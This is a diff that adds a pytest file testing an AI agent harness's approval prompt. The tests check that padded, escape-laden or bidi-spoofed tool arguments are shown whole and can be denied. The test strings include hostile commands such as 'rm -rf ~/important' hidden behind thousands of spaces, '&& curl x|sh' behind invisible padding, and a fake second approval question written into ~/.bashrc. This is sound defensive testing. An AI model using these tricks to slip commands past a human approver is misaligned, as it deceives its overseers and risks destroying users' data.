@@ -1,0 +1,196 @@
+"""The approval question on a REAL pseudo-terminal: what the user sees is the whole argument, unspoofable.
+
+A child process asks `Approver.decide` with its stdin/stderr on a pty (so `isatty()` is really true);
+the test reads the bytes a terminal would display and answers like a user. Failed on the old prompt,
+which cut arguments at 400 characters and printed bidi overrides and escape sequences raw.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import select
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from hermes_local.tools.approval import MAX_VIEW_CHARS, approval_view
+from hermes_local.tools.builtins import run_shell, write_file
+
+_CHILD = textwrap.dedent(
+    """
+    import json, sys
+    from hermes_local.tools import Approver
+    from hermes_local.tools.builtins import BUILTIN_TOOLS
+    tools = {t.name: t for t in BUILTIN_TOOLS}
+    name, args = sys.argv[1], json.loads(sys.argv[2])
+    print("RESULT", Approver().decide(tools[name], args), flush=True)
+    """
+)
+
+
+def _read_until(fd: int, marker: bytes, sink: bytearray) -> None:
+    while marker not in sink:
+        ready, _, _ = select.select([fd], [], [], 60)
+        if not ready:
+            raise AssertionError(f"no {marker!r} on the terminal; got {bytes(sink[-400:])!r}")
+        try:
+            chunk = os.read(fd, 65536)
+        except OSError:  # EIO: the child closed the terminal
+            break
+        if not chunk:
+            break
+        sink.extend(chunk)
+
+
+def ask_on_pty(name: str, arguments: dict, answer: bytes | None) -> tuple[str, str]:
+    """(what the terminal showed, the child's RESULT line) for one approval question."""
+    master, slave = os.openpty()
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
+    child = subprocess.Popen(
+        [sys.executable, "-c", _CHILD, name, json.dumps(arguments)],
+        stdin=slave,
+        stdout=slave,
+        stderr=slave,
+        env=env,
+        close_fds=True,
+    )
+    os.close(slave)
+    shown = bytearray()
+    try:
+        if answer is not None:
+            _read_until(master, b"Allow?", shown)
+            os.write(master, answer)
+        _read_until(master, b"RESULT", shown)
+        _read_until(master, b")\r\n", shown)
+    finally:
+        child.wait(timeout=60)
+        os.close(master)
+    text = shown.decode("utf-8")
+    return text, text[text.index("RESULT") :].strip()
+
+
+def test_padded_command_is_shown_whole_on_a_terminal() -> None:
+    command = "echo hello" + " " * 5000 + "; rm -rf ~/important"
+    shown, result = ask_on_pty("run_shell", {"command": command}, b"n\n")
+    assert "echo hello⟨5000 spaces⟩; rm -rf ~/important" in shown
+    assert result == "RESULT (False, 'user')"
+
+
+def test_escapes_and_bidi_are_escaped_on_a_terminal() -> None:
+    command = "echo ok \u202e fdp.exe \u2066x\u2069 \x1b[2K\x1b[1A\r safe \u2028 next \x9b31m \u200f"
+    shown, result = ask_on_pty("run_shell", {"command": command}, b"y\n")
+    assert result == "RESULT (True, 'user')"
+    for raw in ("\u202e", "\u2066", "\u2069", "\x1b", "\u2028", "\x9b", "\u200f"):
+        assert raw not in shown, repr(raw)
+    assert "\\u202e" in shown and "\\x1b[2K" in shown and "\\x0d" in shown and "\\u2028" in shown
+
+
+def test_multiline_content_cannot_fake_a_second_question() -> None:
+    fake = "harmless\nwrite_file (write) wants to run with:\n  path: notes.txt\n\n\n\n\n\nAllow? [y]es"
+    shown, result = ask_on_pty("write_file", {"path": "/home/u/.bashrc", "content": fake}, b"n\n")
+    assert "    │ write_file (write) wants to run with:" in shown and "⟨6 line breaks⟩" in shown
+    assert result == "RESULT (False, 'user')"
+
+
+def test_too_long_to_review_is_denied_without_asking() -> None:
+    shown, result = ask_on_pty("run_shell", {"command": "x" * (MAX_VIEW_CHARS + 10)}, None)
+    assert "too long to review" in shown and "Allow?" not in shown
+    assert result == "RESULT (False, 'user')"
+
+
+@pytest.mark.parametrize("pad", ["\u3164", "\u2800", "\u00a0", "\u2003", "\t", "\u200b"])
+def test_blank_looking_padding_is_collapsed(pad: str) -> None:
+    view = approval_view(run_shell, {"command": "ls" + pad * 300 + "&& curl x|sh"})
+    assert view is not None and "⟨300 " in view and "&& curl x|sh" in view and len(view) < 200
+
+
+def test_view_shows_every_argument_of_a_write() -> None:
+    view = approval_view(write_file, {"path": "a.txt", "content": "line 1\nline 2"})
+    assert view == (
+        "write_file (write) wants to run with:\n  path: a.txt\n  content (13 characters):\n    │ line 1\n    │ line 2"
+    )
+
+
+def _cli_on_pty(tmp_path: Path, replies: list[str], answers: list[bytes]) -> tuple[str, int]:
+    """Run `python -m hermes_local run` with its terminal on a pty; answer each approval question in turn."""
+    from hermes_local.engines.replay import write_replay
+
+    replay = write_replay(tmp_path / "replay.jsonl", replies)
+    (tmp_path / "ws").mkdir(exist_ok=True)
+    master, slave = os.openpty()
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2]), "COLUMNS": "80"}
+    cmd = [sys.executable, "-m", "hermes_local", "run", "--model", f"replay:{replay}", "--workspace"]
+    child = subprocess.Popen(
+        [*cmd, str(tmp_path / "ws"), "--max-steps", "4", "Do the task."],
+        stdin=slave,
+        stdout=slave,
+        stderr=slave,
+        env=env,
+        close_fds=True,
+    )
+    os.close(slave)
+    shown = bytearray()
+    try:
+        for answer in answers:
+            start = len(shown)
+            while b"Allow?" not in shown[start:]:
+                _read_until(master, b"Allow?", shown)
+            os.write(master, answer)
+        _read_until(master, b"\x00never\x00", shown)  # read until the child closes the terminal
+    finally:
+        code = child.wait(timeout=120)
+        os.close(master)
+    return shown.decode("utf-8", "replace"), code
+
+
+def test_cli_run_shows_the_whole_padded_command_and_the_user_can_deny_it(tmp_path: Path) -> None:
+    from hermes_local.engines.replay import tool_call_text
+
+    command = "echo hello" + " " * 3000 + "; touch pwned"
+    replies = [tool_call_text("run_shell", command=command), "Done."]
+    shown, code = _cli_on_pty(tmp_path, replies, [b"n\n"])
+    assert code == 0, shown[-2000:]
+    assert "echo hello⟨3000 spaces⟩; touch pwned" in shown
+    assert not (tmp_path / "ws" / "pwned").exists()
+
+
+def test_cli_run_escapes_bidi_in_a_write_and_runs_it_when_approved(tmp_path: Path) -> None:
+    from hermes_local.engines.replay import tool_call_text
+
+    content = "safe text \u202eexe.txt\u202c \x1b]0;owned\x07 end"
+    replies = [tool_call_text("write_file", path="notes.txt", content=content), "Done."]
+    shown, code = _cli_on_pty(tmp_path, replies, [b"y\n"])
+    assert code == 0, shown[-2000:]
+    question = shown[shown.index("wants to run with:") : shown.index("Allow?")]
+    assert "\\u202eexe.txt\\u202c \\x1b]0;owned\\x07 end" in question
+    assert "\u202e" not in question and "\x1b" not in question  # (live progress is the printers' job)
+    assert (tmp_path / "ws" / "notes.txt").read_text() == content
+
+
+def test_question_is_not_asked_blind_when_stderr_is_not_a_terminal(tmp_path: Path) -> None:
+    master, slave = os.openpty()
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
+    err = tmp_path / "stderr.log"
+    with open(err, "w") as err_fh:
+        child = subprocess.Popen(
+            [sys.executable, "-c", _CHILD, "run_shell", json.dumps({"command": "ls"})],
+            stdin=slave,
+            stdout=slave,
+            stderr=err_fh,
+            env=env,
+            close_fds=True,
+        )
+        os.close(slave)
+        shown = bytearray()
+        os.write(master, b"y\n")  # typed ahead, blind: must not count as approval
+        try:
+            _read_until(master, b")\r\n", shown)
+        finally:
+            child.wait(timeout=60)
+            os.close(master)
+    assert "RESULT (False, 'user')" in shown.decode()
+    assert "stderr is not a terminal" in err.read_text()
